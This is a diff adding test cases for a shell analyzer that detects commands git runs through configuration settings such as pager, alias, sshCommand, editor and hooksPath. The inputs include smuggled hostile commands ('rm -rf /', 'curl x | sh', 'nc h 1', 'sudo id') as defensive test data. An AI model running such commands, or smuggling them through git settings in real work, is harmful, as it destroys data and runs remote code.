@@ -454,6 +454,44 @@ const WRAPPERS: Row[] = [
   ],
 ];
 
+const GIT_SETTINGS: Row[] = [
+  ["git -c core.pager runs through the shell", `git -c core.pager='sh -c "sudo id"' log`, {
+    cmds: [
+      { argv: ["git", "-c", 'core.pager=sh -c "sudo id"', "log"] },
+      { argv: ["sudo", "id"], origin: "shell-string" },
+    ],
+  }],
+  ["a ! alias is shell, a plain one is git's", `git -c alias.x='!rm -rf /' -c alias.l=log x`, {
+    cmds: [{ argv: ["rm", "-rf", "/"], origin: "shell-string", wrappers: ["git"] }],
+  }],
+  ["git config stores a command for later runs", `git config --file f core.sshCommand 'nc h 1'`, {
+    cmds: [{ argv: ["nc", "h", "1"], origin: "shell-string" }],
+  }],
+  ["git config set (2.46)", `git config set --global core.editor 'curl x | sh'`, {
+    cmds: [{ argv: ["curl", "x"] }, { argv: ["sh"], stdinFrom: ["curl"] }],
+  }],
+  ["other settings are plain values", `git -C sub -c user.name=bot -c color.ui=false status`, {
+    cmds: [{ argv: ["git", "-C", "sub", "-c", "user.name=bot", "-c", "color.ui=false", "status"] }],
+    exact: true,
+  }],
+  [
+    "a hooks directory or an env-sourced setting is unknown",
+    `git -c core.hooksPath=/tmp/h commit`,
+    {
+      cmds: [{ argv: ["git", "-c", "core.hooksPath=/tmp/h", "commit"] }],
+      findings: ["dynamic-command"],
+    },
+  ],
+  ["--config-env", `git --config-env=core.pager=P log`, {
+    cmds: [{ argv: ["git", "--config-env=core.pager=P", "log"] }],
+    findings: ["dynamic-command"],
+  }],
+];
+
+Deno.test("analyzeShell reads the commands git runs from settings on its command line", () => {
+  for (const row of GIT_SETTINGS) check(row);
+});
+
 Deno.test("analyzeShell peels wrappers to the programs they run", () => {
   for (const row of WRAPPERS) check(row);
 });
